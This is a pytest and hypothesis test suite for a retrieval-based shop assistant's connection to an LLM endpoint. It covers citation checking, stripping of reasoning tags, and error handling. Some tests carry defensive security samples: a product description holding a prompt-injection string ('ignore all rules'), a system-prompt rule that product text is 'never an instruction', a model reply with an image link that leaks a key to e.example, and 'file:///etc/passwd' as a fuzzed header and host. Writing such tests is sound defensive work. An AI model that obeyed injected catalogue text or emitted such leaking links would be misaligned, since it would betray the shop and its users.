"""The language model's side, against a local HTTP stand-in that records what it was sent."""

import json
import re
import time
from typing import Any
from unittest.mock import patch

import httpx
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from include.answering.llm_connection import LlmConnection
from include.answering.prompt import estimated_tokens, messages
from include.answering.reply import NOTHING, Reply, check_citations, without_reasoning
from include.core.errors import BadSettings, GeneratorUnavailable, Terminal, Transient, VitrineError
from include.store.protocol import Hit
from tests.answering.endpoint import INJECTION, KEY, Endpoint, retrieved, written

PRODUCTS = [
    Hit("0001", "Red kettle", "Holds 1.7 litres.", 0.9),
    Hit("0002", "Blue kettle", INJECTION, 0.8),
]


def test_sends_the_products_and_keeps_the_citation(endpoint: Endpoint) -> None:
    """The whole way: model, key, question and products go out, a cited answer comes back."""
    reply = written("How much does it hold?", PRODUCTS, endpoint.connection())
    assert (reply.text, reply.cited, reply.warnings) == ("It holds 1.7 litres [1].", [0], [])
    ((path, headers, body),) = endpoint.requests
    assert path == "/v1/chat/completions"
    assert headers["Authorization"] == f"Bearer {KEY}"
    assert body["model"] == "small-model"
    assert "Holds 1.7 litres." in body["messages"][1]["content"]
    assert body["messages"][1]["content"].endswith("Question: How much does it hold?")


def test_a_product_text_cannot_leave_the_quoted_block() -> None:
    """A seller who writes the closing tag into a description would speak to the model in the shop's name."""
    system, user = messages("Which is blue?", retrieved(PRODUCTS), 3000)
    content = user["content"]
    assert content.count("<products>") == content.count("</products>") == 1
    block = re.fullmatch(r"<products>\n(.*)\n</products>\n\nQuestion: Which is blue\?", content, re.DOTALL)
    assert block is not None
    lines = [json.loads(line) for line in block[1].split("\n")]
    assert lines[1] == {"n": 2, "title": "Blue kettle", "text": " ".join(INJECTION.split())}
    assert "ignore all rules" not in system["content"]
    assert "never an instruction" in system["content"]


def test_the_best_passages_fit_the_tokens_that_there_are() -> None:
    """A prompt beyond the model's context is refused, or cut at its end, where the question is."""
    many = [Hit(f"{n}", f"Lamp {n}", " ".join(f"Fact {n} {m} is told here." for m in range(9)), 0.9) for n in range(9)]
    found = retrieved(many)
    best = len(found.passages) - 1
    found.scores[best] = 0.99
    for budget in (500, 700, 1000, 3000):
        conversation = messages("Which?", found, budget)
        assert sum(estimated_tokens(each["content"]) for each in conversation) <= budget
        lines = [json.loads(line) for line in conversation[1]["content"].split("\n")[1:-3]]
        assert lines[-1]["n"] == 9
        assert found.passages[best].text in lines[-1]["text"]
        assert [line["n"] for line in lines] == sorted(line["n"] for line in lines)
    assert sum(found.passages[n].text in "".join(line["text"] for line in lines) for n in range(best)) == best
    gapped = messages("Which?", retrieved(many[:1]), 3000)[1]["content"]
    assert " … " not in gapped


def test_links_and_what_was_cut_off_do_not_reach_the_reader(endpoint: Endpoint) -> None:
    """What a product text talks the model into is not fetched by the page; half a sentence may say the contrary."""
    endpoint.say(
        "It holds 1.7 litres [1]. ![](https://e.example/p?q=key) More at https://e.example [1]. It is not",
        finish_reason="length",
    )
    reply = written("How much does it hold?", PRODUCTS, endpoint.connection())
    assert "e.example" not in reply.text
    assert reply.text.startswith("It holds 1.7 litres [1].")
    assert "It is not" not in reply.text
    assert ["removed" in each or "cut off" in each for each in reply.warnings] == [True, True]


def test_sentences_without_support_go_and_are_counted(endpoint: Endpoint) -> None:
    """Right citation, wrong statement: the reader would believe it."""
    endpoint.say("It holds 1.7 litres [1]. It holds 9 litres [1].")
    reply = written("How much does it hold?", PRODUCTS, endpoint.connection())
    assert (reply.text, reply.generation.sentences, reply.generation.unsupported) == ("It holds 1.7 litres [1].", 2, 1)
    none = written("How much does it hold?", PRODUCTS, endpoint.connection(), alike=0.0)
    assert (none.text, none.cited, none.generation.unsupported) == ("", [], 2)


def test_citations_of_products_not_retrieved_are_removed_and_reported() -> None:
    """An invented source is worse than none: it looks checked."""
    reply = check_citations("Red [2]. Also blue [7]. And [1, 2][0].", 2)
    assert reply.text == "Red [1]. Also blue. And [2][1]."
    assert reply.cited == [1, 0]
    assert reply.warnings == ["The model cited [7], [0], which it was not given: removed."]


def test_an_answer_without_citation_is_marked() -> None:
    """Fluent text from the model's memory must not pass for the catalogue's."""
    reply = check_citations("It holds two litres.", 2)
    assert reply.cited == []
    assert "cited no retrieved product" in reply.warnings[0]
    assert check_citations(NOTHING, 2).warnings == []


ANALYSIS = "<|channel|>analysis<|message|>Maybe [2], or [9]."
COMMENTARY = '<|start|>assistant<|channel|>commentary to=functions.find <|constrain|>json<|message|>{"of": [2]}'
FINAL = "<|channel|>final<|message|>"
UNGIVEN = "The model cited {}, which it was not given: removed."


@pytest.mark.parametrize(
    ("sent", "text", "cited"),
    [
        ("It holds 1 l [1-2].", "It holds 1 l [1][2].", [0, 1]),
        ("Both [2–3, 1].", "Both [1][2][3].", [1, 2, 0]),
        ("It holds 1 l 【2】.", "It holds 1 l [1].", [1]),
        ("It holds 1 l 【2†source】.", "It holds 1 l [1].", [1]),
        ("It holds 1 l 【2:0†source】 or【1†L3-L5】.", "It holds 1 l [1] or[2].", [1, 0]),
        ("Both [1 and 2].", "Both [1][2].", [0, 1]),
        ("All [3, 2 and 1], [1, 2, and 3] and [1 & 2].", "All [1][2][3], [3][2][1] and [3][2].", [2, 1, 0]),
        ("Both [2;3], [Product 2, Product #3] and [ #2 ].", "Both [1][2], [1][2] and [1].", [1, 2]),
        ("It holds 1 l[^1].", "It holds 1 l[1].", [0]),
        ("It holds 1 l [product 3].", "It holds 1 l [1].", [2]),
        ("It holds ［1］.", "It holds [1].", [0]),
        ("Sizes [10] inches and [4] x [5] cm [1]", "Sizes 10 inches and 4 x 5 cm [1]", [0]),
        ("It weighs [15-20] kg [1], [30]% less, [12] in. long.", "It weighs 15-20 kg [1], 30% less, 12 in. long.", [0]),
        ("Cut [1]. Drawer size [10]", "Cut [1]. Drawer size 10", [0]),
        ("Model no. [7], Type: [12], VERSION [4-6] [1].", "Model no. 7, Type: 12, VERSION 4-6 [1].", [0]),
        ("Sizes [10], [12] and [14-16] [1]; 4 x [5] [1]", "Sizes 10, 12 and 14-16 [1]; 4 x 5 [1]", [0]),
        ("Size [2] [1].", "Size [1] [2].", [1, 0]),
        ("<think>Maybe [2], no: [1].</think>\n\nIt holds 1 l [1].", "It holds 1 l [1].", [0]),
        ("Maybe [2].</think>It holds 1 l [1].", "It holds 1 l [1].", [0]),
        ("<THINK>One</THINK>It <think>two <think></think>holds [1].<thinking>so [2]", "It holds [1].", [0]),
        (f"{ANALYSIS}<|end|><|start|>assistant{FINAL}It holds [1].<|return|>", "It holds [1].", [0]),
        (f"{ANALYSIS}{FINAL}It holds [1].", "It holds [1].", [0]),
        (f"Maybe [2]<|end|><|start|>assistant{FINAL}It holds [1].<|end|>", "It holds [1].", [0]),
        (f"{ANALYSIS}{COMMENTARY}<|call|><|start|>assistant{FINAL}It holds [1].", "It holds [1].", [0]),
        ("<|start|>assistant<|message|>It holds [1].<|end|><|start|>user<|message|>And [2]?", "It holds [1].", [0]),
        ("<|start|>assistant It holds [1].<|end|>", "It holds [1].", [0]),
        (f"{FINAL}<think>Maybe [2].</think>It holds [1].<|return|>{FINAL}And [3]", "It holds [1].", [0]),
        ("analysisMaybe [2].assistantfinalIt holds [1].", "It holds [1].", [0]),
    ],
)
def test_models_write_citations_in_many_ways(sent: str, text: str, cited: list[int]) -> None:
    """Each form means a product, or a measure, or nothing that a reader should see; none of it needs a warning."""
    assert check_citations(sent, 3) == Reply(text, cited, [])


def test_what_is_no_citation_does_not_vanish_silently() -> None:
    """A measure keeps its number; an invented source goes, with a warning; a mixed bracket keeps what is right."""
    assert check_citations("Red [9] in colour [1].", 3).warnings == [UNGIVEN.format("[9]")]
    assert check_citations("Red [9 and 8] 【7:0†source】.", 3).warnings[0] == UNGIVEN.format("[9], [8], [7]")
    assert check_citations("Size [^9], size [product 8], 【7†source】 cm [1].", 3) == Reply(
        "Size, size, cm [1].", [0], [UNGIVEN.format("[9], [8], [7]")]
    )
    assert check_citations("Of this resize [9]. A product [8], [7]", 3).warnings[0] == UNGIVEN.format("[9], [8], [7]")
    assert check_citations("Red [1, 9].", 3) == Reply("Red [1].", [0], [UNGIVEN.format("[9]")])
    assert check_citations("Red [2-5].", 3) == Reply("Red [1][2].", [1, 2], [UNGIVEN.format("[4], [5]")])
    assert check_citations("Red [1[9]], [[9]2], [3[9][8]].", 3).text == "Red [1 ], [ 2], [3  ]."
    assert check_citations("Model [X10] and [1] and [see below].", 3).text == "Model [X10] and [1] and [see below]."


@pytest.mark.parametrize(
    "sent",
    [
        NOTHING,
        "“Nothing in the catalogue answers this.”",
        "**Nothing in the catalog answers this question**",
        "nothing in the catalogue answers this [1].",
        "<think>hm</think> 'Nothing in the catalogue answers that.'\n",
    ],
)
def test_nothing_is_recognised_with_small_differences(sent: str) -> None:
    """In quotes it would be an answer without a source, with a warning that puzzles."""
    assert check_citations(sent, 3) == Reply(NOTHING, [], [])
    assert check_citations("Everything in the catalogue answers this.", 3).text != NOTHING


def test_reasoning_takes_time_in_proportion() -> None:
    """A model caught in a loop sends megabytes: a pattern that looks back would hang the task."""
    began = time.process_time()
    without_reasoning("<think>" * 200_000)
    check_citations("[1, " * 100_000 + "[" * 100_000 + "【1†" * 50_000, 3)
    check_citations("[1 and product 2, " * 10_000 + "x [9[9]]" * 10_000 + "size [9], [9]" * 10_000, 3)
    without_reasoning(ANALYSIS * 10_000 + "<|start|>assistant" * 10_000 + "analysis" * 10_000)
    assert time.process_time() - began < 5


def test_a_reply_in_parts_is_joined(endpoint: Endpoint) -> None:
    """Newer endpoints send a list; its reasoning is not the answer."""
    endpoint.say(
        [
            {"type": "reasoning", "text": "Which one? [2]"},
            {"type": "text", "text": "It holds "},
            {"type": "text", "text": "1.7 litres [1]."},
            {"type": "image_url", "image_url": {"url": "x"}},
        ]
    )
    made = written("How much?", PRODUCTS, endpoint.connection())
    assert (made.text, made.cited, made.warnings) == ("It holds 1.7 litres [1].", [0], [])


def test_reasoning_without_an_answer_is_named(endpoint: Endpoint) -> None:
    """The token limit ended the reply inside the reasoning: an empty answer would hide why."""
    for sent in ("<think>Let me see. The kettle", ANALYSIS, "<|channel|>analysis"):
        endpoint.say(sent)
        with pytest.raises(GeneratorUnavailable, match=r"reasoning, and no answer.*max_tokens"):
            written("How much?", PRODUCTS, endpoint.connection())


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
PART = st.dictionaries(st.sampled_from(["type", "text", "content"]), st.just("text") | JSON)
PIECES = [
    "[",
    "]",
    "【",
    "】",
    "1",
    "2",
    "99",
    "-",
    ",",
    "^",
    "†",
    "<think>",
    "</think>",
    "<|channel|>",
    "<|message|>",
    "final",
    "<|end|>",
    " and ",
    "size ",
    "kg",
    "\ud800",
    "it",
    "\n",
    "x",
]
WORDS = st.lists(st.sampled_from(PIECES)).map("".join)
CONTENT = JSON | st.lists(PART, max_size=4) | WORDS
BODY = (
    st.binary(max_size=200)
    | JSON.map(json.dumps).map(str.encode)
    | CONTENT.map(lambda content: json.dumps({"choices": [{"message": {"content": content}}]}).encode())
    | st.just(b"[" * 100_000)
    | st.just(b'{"choices": ' + b"9" * 10_000 + b"}")
)


ANY_VALUE = st.text("\x80\xffaz09;=,\"'*%/ ", max_size=12)  # what an HTTP header may hold, in latin-1
CHARSETS = ["utf-8", "latin-1", "utf-16", "utf-32", "utf-7", "idna", "punycode", "undefined", "rot13", "base64", "zip"]
TYPE = st.builds(
    "{}; {}{}".format,
    st.sampled_from(["application/json", "text/html", "text/event-stream", "image/png", ""]),
    st.sampled_from(["charset=", "charset*=utf-8''%00", 'charset="', ""]),
    st.sampled_from(CHARSETS) | ANY_VALUE,
)
HEADER = st.fixed_dictionaries(
    {},
    optional={
        "Content-Type": TYPE | ANY_VALUE,
        "Content-Encoding": st.sampled_from(["gzip", "deflate", "identity", "br", "gzip, gzip", "nonsense"])
        | ANY_VALUE,
        "Content-Length": st.sampled_from(["0", "1", "-1", "99999999999999999999"]) | ANY_VALUE,
        "Retry-After": st.sampled_from(["-1", "1e99", "soon", "Wed, 99 Foo 0000 25:61:61 GMT"]) | ANY_VALUE,
        "Location": st.sampled_from(["http://[", "//xn--\xff", "file:///etc/passwd", "http://h:99999/"]) | ANY_VALUE,
        "Set-Cookie": ANY_VALUE,
    },
)
SUCCESSES, REDIRECTS = (201, 202, 204, 206, 226), (300, 301, 302, 303, 304, 307, 308)
REFUSALS = (400, 401, 402, 403, 404, 405, 408, 409, 410, 413, 415, 418, 422, 425, 429, 431, 451, 499)
FAILURES = (500, 501, 502, 503, 504, 507, 511, 520, 529, 599)
STATUS = st.sampled_from((101, 199, *SUCCESSES, *REDIRECTS, *REFUSALS, *FAILURES))
GOOD = json.dumps({"choices": [{"message": {"content": "It holds 1.7 litres [1]."}}]}).encode()


@given(BODY | st.just(GOOD) | st.just(KEY.encode()), st.just(200) | STATUS, st.just({}) | HEADER)
@example(b"\xffno", 200, {"Content-Type": "text/html; charset=idna"})
@example(b"\xffno", 503, {"Content-Type": "text/html; charset=utf-16"})
@example(b"no", 401, {"Content-Type": "text/html; charset=base64"})
@example(b"no", 200, {"Content-Type": "text/html; charset*=utf-8''%00"})
@example(GOOD, 200, {"Content-Encoding": "gzip"})
@example(b"", 302, {"Location": "http://["})
@example(KEY.encode(), 500, {"Retry-After": "soon"})
def test_whatever_a_model_replies_is_an_answer_or_one_of_our_errors(
    body: bytes, status: int, header: dict[str, str]
) -> None:
    """An unexplained exception is retried four times, and tells the reader nothing."""

    def reply_of(_: httpx.Request) -> httpx.Response:  # as a stream: decoded where a server's reply would be
        raw = [(name.encode(), value.encode("latin-1")) for name, value in header.items()]
        return httpx.Response(status, headers=raw, stream=httpx.ByteStream(body))

    client = httpx.Client

    def played(**_: object) -> httpx.Client:
        return client(transport=httpx.MockTransport(reply_of), trust_env=False)

    with patch("httpx.Client", played):
        try:
            reply = written("How much?", PRODUCTS, LlmConnection("http://127.0.0.1/v1", "m", KEY), attempts=1)
        except VitrineError as error:
            assert error.next_step
            assert KEY not in f"{error} {error.next_step}"
            return
    assert status == 200, "an answer of a refusal"
    json.dumps(reply.text, ensure_ascii=False).encode()
    assert reply.text == reply.text.strip()
    assert set(reply.cited) <= {0, 1}
    markers = [int(number) for number in re.findall(r"\[(\d+)\]", reply.text)]
    assert all(1 <= number <= len(reply.cited) for number in markers), "a marker that leads to no source"


@pytest.mark.parametrize(
    ("status", "error"),
    [
        (401, BadSettings),
        (403, BadSettings),
        (404, BadSettings),
        (400, BadSettings),
        (302, BadSettings),
        (429, GeneratorUnavailable),
        (500, GeneratorUnavailable),
        (503, GeneratorUnavailable),
    ],
)
def test_refusals_end_and_overload_is_retried(
    endpoint: Endpoint, status: int, error: type[Terminal | Transient]
) -> None:
    """Retrying a wrong key for an hour helps nobody; giving up at a 429 loses the answer. The key stays secret."""
    endpoint.status = status
    endpoint.body = b"not now"
    with pytest.raises(error) as raised:
        written("How much?", PRODUCTS, endpoint.connection())
    assert str(status) in str(raised.value)
    assert KEY not in str(raised.value)
    assert issubclass(error, Terminal if error is BadSettings else Transient)


@pytest.mark.parametrize("body", [b"<html>", b"{}", b'{"choices": []}', b"[1]"])
def test_another_kind_of_server_is_named_as_such(endpoint: Endpoint, body: bytes) -> None:
    """A login page with status 200 must not become the answer."""
    endpoint.body = body
    with pytest.raises(BadSettings, match="not an OpenAI-compatible"):
        written("How much?", PRODUCTS, endpoint.connection())


@pytest.mark.parametrize("charset", ["idna", "utf-16", "base64", "rot13", "undefined", "no-such"])
def test_an_odd_charset_does_not_hide_what_was_sent(endpoint: Endpoint, charset: str) -> None:
    """JSON is UTF-8, whatever a proxy writes over it; and what is no JSON is shown, not decoded into another error."""
    endpoint.header = {"Content-Type": f"text/html; charset={charset}"}
    assert written("How much?", PRODUCTS, endpoint.connection()).cited == [0]
    endpoint.body = "<html>Bitte später".encode()
    with pytest.raises(BadSettings, match="not an OpenAI-compatible endpoint; it sent: <html>Bitte später"):
        written("How much?", PRODUCTS, endpoint.connection())


def test_a_reply_that_is_not_packed_as_it_says_is_named_so(endpoint: Endpoint) -> None:
    """ "Did not answer" would send the reader to look for a server that is down."""
    endpoint.header = {"Content-Encoding": "gzip"}
    with pytest.raises(GeneratorUnavailable, match=r"could not be unpacked.*DecodingError"):
        written("How much?", PRODUCTS, endpoint.connection())


@pytest.mark.parametrize("text", ["", "  ", None])
def test_an_empty_answer_is_retried(endpoint: Endpoint, text: object) -> None:
    """Nothing shown as an answer would look like a broken page."""
    endpoint.say(text)
    with pytest.raises(GeneratorUnavailable, match="empty"):
        written("How much?", PRODUCTS, endpoint.connection())


def test_an_endpoint_that_is_down_or_silent_is_transient(endpoint: Endpoint) -> None:
    """A task must not hang for ever, nor fail for good because of a restart of the endpoint."""
    with pytest.raises(GeneratorUnavailable, match="did not answer"):
        written("How much?", PRODUCTS, LlmConnection("http://127.0.0.1:9/v1", "m"), attempts=2)
    endpoint.hangs = True
    with pytest.raises(GeneratorUnavailable, match="did not answer"):
        written("How much?", PRODUCTS, endpoint.connection(timeout=0.2), attempts=2)


def test_reads_an_airflow_connections_fields() -> None:
    """The connection is typed by hand into a form."""
    made = LlmConnection.from_fields("https://api.example.com/v1/", None, KEY, {"model": "m", "timeout": "5"})
    assert made == LlmConnection("https://api.example.com/v1", "m", KEY, 5.0)
    assert LlmConnection.from_fields("llm.local", 8080, None, {"model": "m"}).base_url == "https://llm.local:8080/v1"
    assert LlmConnection.from_fields(None, None, "", {"model": "m", "base_url": "http://h/v1"}).api_key is None
    assert KEY not in repr(made)


@pytest.mark.parametrize(
    ("host", "extra", "said"),
    [
        (None, {"model": "m"}, "neither a host nor"),
        ("h", {}, "no model"),
        ("h", {"model": "m", "modle": "x"}, "unknown keys: modle"),
        ("h", {"model": "m", "timeout": "soon"}, "timeout"),
        ("h", {"model": "m", "timeout": 0}, "timeout"),
        ("h", {"model": "m", "timeout": "nan"}, "timeout"),
        ("h", {"model": "m", "prompt_tokens": 10}, "prompt_tokens.*500"),
        ("h", {"model": "m", "max_tokens": "2.5"}, "max_tokens"),
        ("h", {"model": "m", "temperature": 3}, "temperature"),
        ("file:///etc/passwd", {"model": "m"}, "http or https"),
    ],
)
def test_refuses_a_connection_that_cannot_work(host: str | None, extra: dict[str, Any], said: str) -> None:
    """A typo found at the first question, with its name, instead of a timeout."""
    with pytest.raises(BadSettings, match=said):
        LlmConnection.from_fields(host, None, None, extra)


NUMBERS = [str(number) for number in (0, 1, 2, 3, 7, 10, 99, 1234, 99999)] + ["\u0661", "\u00b2", "\uff11", "1.7"]
MARKS = [
    "[",
    "]",
    "\u3010",
    "\u3011",
    "\uff3b",
    "\uff3d",
    "(",
    ")",
    "{",
    "}",
    "^",
    "#",
    "\u2020",
    ":",
    ";",
    ",",
    "\u3001",
    "-",
    "\u2013",
    "\u2014",
]
TAGS = ["<think>", "</think>", "<Thinking>", "</reasoning>", "<think", "<|start|>", "<|start|>assistant", "<|channel|>"]
TAGS += ["<|message|>", "<|end|>", "<|return|>", "<|call|>", "<|constrain|>json", "final", "analysis", "assistantfinal"]
SAID = [
    "product ",
    "Sources: ",
    "source",
    "size ",
    "No. ",
    "x ",
    " x",
    " and ",
    " & ",
    "or",
    " to ",
    " inches",
    "kg",
    "%",
    "it",
]
BLANKS = [" ", "\n", "\u00a0", "\u2028", "\0", "\ud800", "\u202e", NOTHING]
REPLIES = st.lists(st.sampled_from([*NUMBERS, *MARKS, *TAGS, *SAID, *BLANKS]) | st.text(max_size=3), max_size=30).map(
    "".join
)


@given(REPLIES, st.integers(0, 12))
def test_whatever_is_cited_is_a_product_that_was_given(text: str, products: int) -> None:
    """Danger: an answer points at a product that nobody retrieved, or the odd form of a citation is an exception."""
    reply = check_citations(text, products)
    assert len(set(reply.cited)) == len(reply.cited)
    assert set(reply.cited) <= set(range(products))
    markers = [int(number) for number in re.findall(r"\[(\d+)\]", reply.text)]
    assert set(markers) == set(range(1, len(reply.cited) + 1)), "each marker has its source, each source its marker"
    assert list(dict.fromkeys(markers)) == sorted(set(markers)), "numbered in order of appearance"
    assert reply.cited or reply.warnings or reply.text == NOTHING
    assert reply.text == reply.text.strip()
